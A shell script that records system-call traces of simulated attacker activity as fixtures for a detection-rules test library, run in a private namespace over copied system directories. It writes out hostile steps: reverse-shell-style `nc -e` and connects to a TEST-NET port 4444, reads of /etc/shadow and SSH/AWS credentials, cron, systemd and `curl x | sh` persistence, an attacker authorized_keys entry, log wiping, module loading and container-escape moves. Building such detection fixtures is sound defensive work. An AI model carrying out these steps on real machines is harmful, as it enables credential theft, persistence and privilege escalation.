#!/bin/sh
# Records the rules library's test activity (policies/tests/library/*.yaml) with `idwrap trace --json`, as root.
# Everything that writes where it would matter runs in a private mount namespace over copies (/etc, /home,
# /boot, /usr/local/bin, /var/log): the recorded paths are the real ones, the machine's files are untouched.
# Usage: sudo policies/tests/recordings/library/record.sh [IDWRAP [NAME]]   (NAME: one recording, e.g. network)
# A new recording has new pids: the tests that name pids (policies/tests/library/*.yaml) must follow.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
idwrap=${1:-$here/../../../../idwrap}
W=/tmp/idwrap-library-rec
rm -rf "$W" && mkdir -p "$W" && chmod 755 "$W"
cc -shared -fPIC -o "$W/payload.so" "$here/payload.c"
cc -o "$W/tools" "$here/tools.c"
cp /usr/bin/busybox "$W/nc"
only=${2:-}
trace() { out=$1; shift; "$idwrap" trace --json -o "$here/$out" "$@"; }
want() { [ -z "$only" ] || [ "$only" = "$1" ]; }

# execution: a shell from nginx, nc/busybox nc/nc -e; benign: a shell from a shell, busybox true.
want execution && trace execution.jsonl -- /bin/sh -c "
  PAYLOAD_SHELL='exit 0' LD_PRELOAD=$W/payload.so /usr/sbin/nginx -v 2>/dev/null
  $W/nc -w 1 127.0.0.1 9 </dev/null; busybox nc -w 1 127.0.0.1 9 </dev/null
  $W/nc 127.0.0.1 9 -e /bin/true </dev/null
  bash -c true; busybox true; true"

# network: code in nginx connecting out (192.0.2.1 is TEST-NET: nothing answers), to an upstream port and to loopback.
# One nginx per connection, so that a test names each by its pid.
want network && trace network.jsonl -- /bin/sh -c "
  for t in 192.0.2.1:4444 192.0.2.1:443 127.0.0.1:4444; do
    PAYLOAD_CONNECT=\$t LD_PRELOAD=$W/payload.so /usr/sbin/nginx -v 2>/dev/null
  done
  $W/nc -w 1 192.0.2.1 4444 </dev/null; true"

# credentials: under a private /home with a user's keys and cloud credentials.
want credentials && unshare -m --propagation private /bin/sh -eu -c "
  mount -t tmpfs tmpfs /home
  mkdir -p /home/lib/.ssh /home/lib/.aws
  ssh-keygen -q -t ed25519 -N '' -f /home/lib/.ssh/id_ed25519
  printf '[default]\naws_secret_access_key = x\n' > /home/lib/.aws/credentials
  printf '[default]\nregion = x\n' > /home/lib/.aws/config
  $(command -v "$idwrap") trace --json -o $here/credentials.jsonl -- /bin/sh -c '
    cat /etc/shadow >/dev/null; cat /etc/hostname >/dev/null
    cat /home/lib/.ssh/id_ed25519 >/dev/null; cat /home/lib/.ssh/id_ed25519.pub >/dev/null
    ssh-keygen -y -f /home/lib/.ssh/id_ed25519 >/dev/null
    cat /home/lib/.aws/credentials >/dev/null; cat /home/lib/.aws/config >/dev/null
    grep -rl aws_secret_access_key /home/lib/.aws/config >/dev/null; grep -c root /etc/hostname >/dev/null; true'
"

# system files: writes below /etc, binaries, /boot; persistence; log tampering; passwd changing /etc/shadow (excepted).
want system-files && unshare -m --propagation private /bin/sh -eu -c "
  cp -a /etc $W/etc && mount --bind $W/etc /etc
  for d in /home /boot /usr/local/bin /var/log; do mount -t tmpfs tmpfs \$d; done
  mkdir -p /home/lib/.ssh && echo 'x=1' > /home/lib/.bashrc
  echo old > /var/log/lib.log && echo old > /var/log/lib.log.1
  $(command -v "$idwrap") trace --json -o $here/system-files.jsonl -- /bin/sh -c '
    echo x > /etc/idwrap-lib.conf
    echo \"* * * * * root /tmp/x\" > /etc/cron.d/idwrap-lib
    printf \"[Service]\\n\" > /etc/systemd/system/idwrap-lib.service
    : >> /etc/ld.so.preload; rm /etc/ld.so.preload
    echo \"curl x | sh\" >> /home/lib/.bashrc
    sed -i s/x=1/x=2/ /home/lib/.bashrc
    echo \"ssh-ed25519 AAAA attacker\" >> /home/lib/.ssh/authorized_keys
    cat /usr/bin/true > /usr/local/bin/idwrap-lib-tool
    echo x > /boot/idwrap-lib
    : > /var/log/lib.log; rm /var/log/lib.log.1
    tee -a /var/log/lib.log </dev/null >/dev/null; cat /etc/passwd /etc/hostname >/dev/null; echo x > /tmp/idwrap-lib-ok
    passwd -l nobody >/dev/null; true'
"

# privilege: a user's process asking for root and capabilities, a module load, ptrace injection; benign: setpriv
# (root dropping to the user), strace (a debugger).
printf 'not a module' > "$W/evil.ko"
want privilege && trace privilege.jsonl -e %file,%process,%net,capset,setgid,init_module,finit_module,process_vm_writev -- /bin/sh -c "
  setpriv --reuid=65534 --regid=65534 --clear-groups $W/tools escalate
  insmod $W/evil.ko 2>/dev/null; $W/tools inject; strace -o /dev/null /bin/true; true"

# containers: a file named release_agent written, busybox mount (a raw mount), mount/unshare/nsenter run, the docker
# socket reached; benign: another unix socket, a file named otherwise.
mkdir -p "$W/cg" "$W/mnt"
want containers && unshare -m --propagation private /bin/sh -eu -c "
  $(command -v "$idwrap") trace --json -o $here/containers.jsonl -e %file,%process,%net,setns,unshare -- /bin/sh -c '
    echo $W/x > $W/cg/release_agent; echo 1 > $W/cg/tasks
    busybox mount -t tmpfs tmpfs $W/mnt; mount -t tmpfs tmpfs $W/mnt
    unshare -u true; nsenter -t 1 -u true
    curl -q -s --unix-socket /run/docker.sock http://x/ ; curl -q -s --unix-socket $W/other.sock http://x/; true'
"
sed -i "s#$W#/tmp/idwrap-library-rec#g" "$here"/*.jsonl 2>/dev/null || true
echo "recorded in $here"
